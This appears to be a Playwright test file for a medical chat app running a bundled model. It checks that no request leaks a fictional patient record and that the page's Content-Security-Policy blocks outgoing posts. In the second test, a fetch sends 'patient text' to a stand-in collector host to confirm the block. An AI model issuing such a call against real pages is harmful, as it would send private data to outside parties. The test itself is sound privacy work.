import { expect, loadBundledModel, test } from './fixtures';

test('no request made during a consultation carries the message text', async ({ page, network }) => {
  const secret = 'Patient Zelda Quixote, MRN 99817, HIV positive';
  await page.goto('./');
  await loadBundledModel(page);
  const before = network.requests.length;
  await page.getByLabel('Message').fill(secret);
  await page.getByRole('button', { name: 'Send' }).click();
  await expect(page.locator('article.message.assistant').last()).toHaveAttribute('data-status', 'complete');
  await page.reload();
  await expect(page.locator('article.message.user')).toContainText('Zelda Quixote');

  const needles = ['Zelda', 'Quixote', '99817', encodeURIComponent('Zelda Quixote')];
  for (const r of network.requests) {
    const carried = `${r.url()}\n${r.postData() ?? ''}\n${JSON.stringify(r.headers())}`;
    for (const n of needles) expect(carried, `request ${r.method()} ${r.url()}`).not.toContain(n);
  }
  // The check looked at real traffic: the reload fetched the app again.
  expect(network.requests.length).toBeGreaterThan(before);
});

test('the Content-Security-Policy blocks the page from sending anything to a host that is not a model host', async ({ page }) => {
  await page.goto('./');
  const violation = await page.evaluate(async () => {
    const seen = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true }),
    );
    await fetch('https://collector.example.org/log', { method: 'POST', body: 'patient text' }).catch(() => undefined);
    return seen;
  });
  expect(violation).toBe('connect-src');
});
